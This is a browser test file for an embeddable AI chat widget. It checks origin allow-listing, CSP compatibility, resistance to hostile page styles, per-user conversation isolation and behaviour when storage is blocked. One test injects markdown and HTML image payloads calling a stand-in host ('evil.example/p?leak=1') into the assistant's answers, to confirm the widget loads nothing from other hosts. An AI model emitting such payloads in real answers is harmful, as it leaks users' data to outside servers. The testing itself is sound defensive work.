/** The widget on pages of other sites, in a real browser: who may embed it, who is who, and what it does to the page. */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ChatRig, say, userToken } from '../connectors/webchat/rig.js';
import { noBrowser } from '../support/browser.js';

const hostile = `<style>
  * { all: revert; color: lime !important }
  body, body *, carrier-chat { transform: rotate(3deg) !important; opacity: 0.9 !important }
  div, button, iframe, carrier-chat { color: red !important; display: none !important; width: 100% !important; position: static !important }
  html { color-scheme: dark }
</style>`;

describe.skipIf(noBrowser)(`the widget${noBrowser ? ` (skipped: ${noBrowser})` : ''}`, () => {
  let rig: ChatRig;

  beforeAll(async () => {
    rig = await ChatRig.open((port) => ({
      assistant: { origins: [`http://shop.example:${port}`], secret: 'env:WEBCHAT_SECRET_SHOP' },
    }));
  });
  afterAll(() => rig?.close());
  beforeEach(() => {
    rig.headers = {};
    rig.model.answer = 'Hello, visitor.';
    rig.pages.clear();
    rig.pages.set('/', `<body><h1>Shop</h1>${rig.script('defer')}</body>`);
  });

  it('[seen.29] [seen.35] opens on a site of the list, and shows nothing on any other', async () => {
    const page = await rig.visit(rig.site());
    const chat = await rig.openChat(page);
    await say(chat, 'Hello?');
    await chat.locator('.markdown', { hasText: 'Hello, visitor.' }).waitFor();
    // Closed again by its own key, it gives the focus back.
    await chat.getByRole('textbox').press('Escape');
    await page.locator('carrier-chat:not([open])').waitFor({ state: 'attached' });
    await page.context().close();
    const evil = await rig.visit(rig.site('evil.example'));
    await evil.locator('carrier-chat button').click();
    await expect
      .poll(async () => (await rig.chatIn(evil)).url(), { timeout: 10_000 })
      .toMatch(/^chrome-error:/);
    await evil.context().close();
    // A page without the script, which says hello by itself, is told apart by its origin as the browser says it.
    rig.pages.set('/raw', `<iframe src="${rig.hub}/webchat/assistant"></iframe>`);
    const raw = await rig.visit(`${rig.site()}/raw`);
    await raw.frameLocator('iframe').getByText('has not said hello').waitFor();
    await raw.context().close();
  });

  it('[seen.33] is there once, however it is included, and under a strict policy', async () => {
    const head = `<head>${rig.script('nonce="n1"')}${rig.script('nonce="n1" type="module"')}</head>`;
    rig.pages.set(
      '/strict',
      `<!doctype html><html>${head}<body><main>Shop</main>${rig.script('nonce="n1" defer')}</body></html>`,
    );
    rig.headers = {
      'content-security-policy': `default-src 'none'; script-src ${rig.hub} 'nonce-n1'; frame-src ${rig.hub}`,
    };
    const faults: string[] = [];
    const context = await rig.browser.newContext();
    context.on('weberror', (error) => faults.push(error.error().message));
    context.on('console', (message) => {
      if (/security policy/i.test(message.text())) faults.push(message.text());
    });
    const page = await rig.visit(`${rig.site()}/strict`, context);
    await page.locator('carrier-chat button').waitFor();
    await page.evaluate(() => {
      // A page that changes its route writes its body anew, and a framework even the whole document.
      history.pushState({}, '', '/strict/two');
      document.body.replaceWith(document.createElement('body'));
      document.querySelector('carrier-chat')?.remove();
    });
    const chat = await rig.openChat(page);
    await chat.getByRole('textbox').waitFor();
    expect(await page.locator('carrier-chat').count()).toBe(1);
    expect(faults).toEqual([]);
    await context.close();
  });

  it('[seen.34] looks right among hostile styles, takes its own space alone, and stands where it is told', async () => {
    const body = `<body><div id="box">Shop</div>${rig.script('defer data-z-index="7"')}</body>`;
    rig.pages.set('/hostile', `${hostile}${body}`);
    const page = await rig.visit(`${rig.site()}/hostile`);
    const host = page.locator('carrier-chat');
    await host.locator('button').waitFor();
    const seen = () =>
      host.evaluate((element) => {
        const { zIndex, position, opacity, transform } = getComputedStyle(element);
        const { width, height, right, bottom } = element.getBoundingClientRect();
        const edges = [innerWidth - right, innerHeight - bottom];
        return { zIndex, position, opacity, transform, width, height, edges };
      });
    const right = {
      position: 'fixed',
      opacity: '1',
      transform: 'none',
      width: 56,
      height: 56,
      edges: [16, 16],
    };
    expect(await seen()).toEqual({ ...right, zIndex: '7' });
    await page.addStyleTag({ content: 'carrier-chat { --carrier-chat-z-index: 3 }' });
    expect((await seen()).zIndex).toBe('3');
    // What is beside the button is the page's.
    expect(
      await page.evaluate(() => document.elementFromPoint(innerWidth - 100, innerHeight - 40)?.tagName),
    ).not.toBe('CARRIER-CHAT');
    expect(await page.locator('#box').evaluate((box) => getComputedStyle(box).color)).toBe('rgb(255, 0, 0)');
    const chat = await rig.openChat(page);
    await chat.getByRole('textbox').waitFor();
    const frame = await page.locator('carrier-chat iframe').boundingBox();
    expect(frame?.width).toBe(400);
    await page.setViewportSize({ width: 360, height: 640 });
    expect(await page.locator('carrier-chat iframe').boundingBox()).toEqual({
      x: 0,
      y: 0,
      width: 360,
      height: 640,
    });
    await page.context().close();
  });

  it('[seen.31] [seen.36] shows each user their own talk on every device, and the next one nothing of it', async () => {
    const [alice, bob] = [await userToken('alice', { name: 'Alice' }), await userToken('bob')];
    const identify = (page: Awaited<ReturnType<typeof rig.visit>>, user: string | null) =>
      page.evaluate(
        (token) =>
          (
            window as unknown as { carrierChat: { identify(user: string | null): void } }
          ).carrierChat.identify(token),
        user,
      );
    const page = await rig.visit(rig.site());
    const chat = await rig.openChat(page);
    await say(chat, 'I am nobody yet');
    await chat.locator('.markdown', { hasText: 'Hello, visitor.' }).waitFor();
    await identify(page, alice);
    await chat.getByText('I am nobody yet').waitFor({ state: 'detached' });
    await say(chat, 'The secret of Alice');
    await chat.locator('.markdown', { hasText: 'Hello, visitor.' }).waitFor();
    // A load for Alice that comes after she has gone.
    let letGo = () => {};
    const held = new Promise<void>((resolve) => {
      letGo = resolve;
    });
    await page.route('**/webchat/assistant/messages*', async (route) => {
      await held;
      await route.continue().catch(() => {});
    });
    await identify(page, null);
    await identify(page, alice);
    await identify(page, null);
    letGo();
    await page.unroute('**/webchat/assistant/messages*');
    await chat.getByText('Nothing was said here yet').waitFor();
    expect(await chat.getByText(/The secret of Alice|I am nobody yet/).count()).toBe(0);
    await identify(page, bob);
    await say(chat, 'Bob asks');
    await chat.locator('.markdown', { hasText: 'Hello, visitor.' }).waitFor();
    expect(await chat.getByText(/The secret of Alice|I am nobody yet/).count()).toBe(0);
    // Her other device; and what somebody else has signed makes nobody her.
    const phone = await rig.visit(rig.site());
    const there = await rig.openChat(phone);
    await there.getByText('Nothing was said here yet').waitFor();
    await identify(phone, alice);
    await there.locator('.typed', { hasText: 'The secret of Alice' }).waitFor();
    await identify(phone, await userToken('alice', { secret: 'some-other-secret-of-thirty-two-chars' }));
    await there.getByText('You could not be signed in here').waitFor();
    expect(await there.getByText('The secret of Alice').count()).toBe(0);
    await phone.context().close();
    await page.context().close();
  });

  it('[seen.32] works where the browser lets frames keep nothing, and says so', async () => {
    const context = await rig.browser.newContext();
    const errors: string[] = [];
    context.on('weberror', (error) => errors.push(error.error().message));
    await context.addInitScript(() => {
      for (const name of ['localStorage', 'sessionStorage'])
        Object.defineProperty(window, name, {
          get() {
            throw new DOMException('Access is denied for this document.', 'SecurityError');
          },
        });
    });
    const chat = await rig.openChat(await rig.visit(rig.site(), context));
    await chat.getByText('This browser lets the chat keep nothing here').waitFor();
    await say(chat, 'Hello?');
    await chat.locator('.markdown', { hasText: 'Hello, visitor.' }).waitFor();
    expect(errors).toEqual([]);
    await context.close();
  });

  it('[seen.18] asks nothing of other hosts, whatever the answer says', async () => {
    const context = await rig.browser.newContext();
    const asked: string[] = [];
    context.on('request', (request) => asked.push(request.url()));
    // The hub takes such addresses out of answers; the page shows none by itself if one comes through.
    const hostile = [
      ...['![x](http://evil.example/p?leak=1)', '![y][r]', '<img src="//evil.example/q">'],
      ...['[link](//evil.example/l)', 'the end', '\n\n[r]: http://evil.example/r'],
    ].join(' ');
    await context.route('**/webchat/assistant/messages*', async (route) => {
      if (route.request().method() !== 'GET') return route.continue();
      const body = await (await route.fetch({ url: route.request().url().replace(rig.hub, rig.url) })).text();
      await route.fulfill({ body: body.replace('Hello, visitor.', JSON.stringify(hostile).slice(1, -1)) });
    });
    const chat = await rig.openChat(await rig.visit(rig.site(), context));
    await say(chat, 'Show me');
    const said = chat.locator('.answer', { hasText: 'the end' });
    await said.waitFor();
    expect(await said.textContent()).toContain('evil.example');
    expect(await chat.locator('.answer img').count()).toBe(0);
    const ours = [rig.site(), rig.hub];
    expect(
      asked.filter((url) => !ours.some((one) => url.startsWith(one)) && !/^(data|blob):/.test(url)),
    ).toEqual([]);
    await context.close();
  });
});
